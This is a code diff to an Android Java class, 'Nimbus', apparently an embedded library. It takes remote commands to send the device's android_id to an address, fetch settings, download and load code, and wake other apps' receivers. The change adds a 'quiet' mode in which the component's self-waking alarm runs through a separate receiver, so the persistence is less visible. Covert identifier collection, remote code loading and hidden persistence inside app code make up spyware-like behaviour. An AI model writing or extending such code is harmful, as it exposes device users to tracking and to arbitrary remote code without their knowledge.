@@ -26,7 +26,8 @@ import org.json.JSONObject;
  *   {read: android_id, to: ADDRESS}     reads it, and sends it there as `id`
  *   {fetch: ADDRESS}                    gets its settings from there
  *   {load: ADDRESS}                     gets code from there and loads it
- *   {alarm_ms: N}                       has itself woken after so long, and again, whether the app runs or not
+ *   {alarm_ms: N}                       has itself woken after so long, and again, whether the app runs or not; `quiet`: by a
+ *                                       receiver that hears of nothing else
  *   {wake: PACKAGE/CLASS, every_ms: N}  sends to that receiver of another app, again and again
  */
 public final class Nimbus {
@@ -43,7 +44,7 @@ public final class Nimbus {
             } else if (act.has("load")) {
                 later(act.optString("load"), app);
             } else if (act.has("alarm_ms")) {
-                setAlarm(app, act.optInt("alarm_ms"));
+                setAlarm(app, act.optBoolean("quiet") ? NimbusAlarm.class : NimbusReceiver.class, act.optInt("alarm_ms"));
             } else if (act.has("wake")) {
                 wake(app, ComponentName.unflattenFromString(act.optString("wake")), act.optInt("every_ms"));
             }
@@ -54,8 +55,8 @@ public final class Nimbus {
         return Settings.Secure.getString(context.getContentResolver(), Settings.Secure.ANDROID_ID);
     }
 
-    static void setAlarm(Context context, int ms) {
-        Intent intent = new Intent(context, NimbusReceiver.class).putExtra("ms", ms);
+    static void setAlarm(Context context, Class<?> receiver, int ms) {
+        Intent intent = new Intent(context, receiver).putExtra("ms", ms);
         PendingIntent again = PendingIntent.getBroadcast(context, 1, intent,
             PendingIntent.FLAG_IMMUTABLE | PendingIntent.FLAG_UPDATE_CURRENT);
         ((AlarmManager) context.getSystemService(Context.ALARM_SERVICE)).set(AlarmManager.ELAPSED_REALTIME_WAKEUP,
